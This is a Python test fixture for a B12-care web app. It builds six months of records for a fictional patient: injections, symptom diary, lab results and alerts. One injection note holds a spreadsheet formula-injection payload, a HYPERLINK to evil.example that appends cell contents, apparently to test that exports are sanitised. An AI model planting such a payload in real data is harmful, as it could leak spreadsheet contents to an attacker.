"""A patient with six months of treatment: regimen, injections, diary, labs and alerts."""

from __future__ import annotations

import datetime as dt
from decimal import Decimal

import pytest
import time_machine

from b12care.alerts.lifecycle import alert_resolve, findings_record
from b12care.alerts.rules import Finding
from injections.models import ProtocolTemplate, SuitabilityAssessment, TrainingRecord
from injections.protocols import HYDROXO_NO_NEURO
from injections.services import injection_record, regimen_create_from_template
from labs.models import Analyte
from labs.services import result_record
from symptoms.services import checkin_save

UTC = dt.UTC
START = dt.date(2026, 6, 1)  # a Monday: induction Mon/Wed/Fri x 6, then every 3 months
NOW = dt.datetime(2026, 11, 24, 12, 0, tzinfo=UTC)
EVIL_NOTE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _at(day: dt.date, hour: int, minute: int = 0) -> dt.datetime:
    """A London summer wall time (UTC+1) as UTC."""
    return dt.datetime(day.year, day.month, day.day, hour - 1, minute, tzinfo=UTC)


def _ready_for_self(patient, clinician) -> None:
    SuitabilityAssessment.objects.create(patient=patient, assessed_by=clinician,
                                         assessed_on=START,
                                         **{item: True for item in SuitabilityAssessment.ITEMS})
    TrainingRecord.objects.create(patient=patient, observed_by=clinician, observed_on=START,
                                  **{item: True for item in TrainingRecord.ITEMS})


def _injections(patient, clinician) -> None:
    days = [START + dt.timedelta(days=d) for d in (0, 2, 4, 7, 9, 11)]
    who = ["nurse", "nurse", "carer", "self", "self", "self"]
    for n, (day, by) in enumerate(zip(days, who, strict=True)):
        at = _at(day, 9, 5) if n != 4 else _at(day + dt.timedelta(days=2), 19)  # one late
        extra = {"redness": True, "pain": 3} if n == 1 else {}
        notes = EVIL_NOTE if n == 2 else ""
        with time_machine.travel(at, tick=False):
            injection_record(patient=patient, recorded_by=clinician, now=at, taken_at=at,
                             product="hydroxocobalamin", dose=Decimal(1), unit="mg",
                             site="left_deltoid" if n % 2 else "right_deltoid",
                             administered_by=by, lot_number=f"LOT-{n + 1:02d}",
                             expiry_date=dt.date(2027, 8, 31), notes=notes, **extra)


def _diary(patient) -> None:
    for d, (fatigue, numb) in enumerate([(8, 4), (7, 4), (5, 3), (3, 1), (2, 0)]):
        at = _at(START + dt.timedelta(days=7 * d), 20)
        with time_machine.travel(at, tick=False):
            checkin_save(patient=patient, by=patient.user, now=at,
                         scores={"fatigue": (fatigue, ""), "numbness_feet": (numb, ""),
                                 "mood": (0, "")},
                         notes="@me felt tired" if d == 0 else "")


def _labs(patient, clinician) -> None:
    hb, b12, ifab = (Analyte.objects.get(key=k) for k in ("hb", "b12", "ifab"))
    rows = [(hb, START, Decimal("9.4"), "g/dL", ""), (hb, START + dt.timedelta(days=56),
                                                     Decimal("12.9"), "g/dL", ""),
            (b12, START, Decimal("110"), "pmol/L", ""), (ifab, START, None, "", "positive")]
    for analyte, day, value, unit, answer in rows:
        at = _at(day, 11)
        with time_machine.travel(at, tick=False):
            result_record(patient=patient, analyte=analyte, sampled_on=day,
                          sampled_time=dt.time(10, 30), value=value, unit=unit,
                          qualitative=answer, lab_name="City Lab", by=clinician, now=at)


def _alerts(patient, clinician) -> None:
    at = _at(START + dt.timedelta(days=20), 10)
    with time_machine.travel(at, tick=False):
        old = findings_record(patient=patient, findings=[
            Finding("hb_critical", "review", "hb-old", "p", "Hb 7.9 g/dL")], now=at)[0]
        alert_resolve(alert=old, by=clinician, now=at, note="Seen in clinic by Dr Jones.")
    with time_machine.travel(NOW, tick=False):
        findings_record(patient=patient, findings=[
            Finding("neuro_worsening", "urgent", "neuro", "Call us", "Numbness rose from 1 to 6")],
            now=NOW)


@pytest.fixture
def treated(patient, clinician):
    """Pat Lee (London), born 4 May 1970: six months of records by 24 Nov 2026."""
    patient.date_of_birth = dt.date(1970, 5, 4)
    patient.sex = "female"
    patient.save()
    _ready_for_self(patient, clinician)
    with time_machine.travel(_at(START, 8), tick=False):
        regimen_create_from_template(
            patient=patient, template=ProtocolTemplate.objects.get(slug=HYDROXO_NO_NEURO),
            start_date=START, time_of_day=dt.time(9, 0), created_by=clinician,
            now=_at(START, 8))
    _injections(patient, clinician)
    _diary(patient)
    _labs(patient, clinician)
    _alerts(patient, clinician)
    return patient
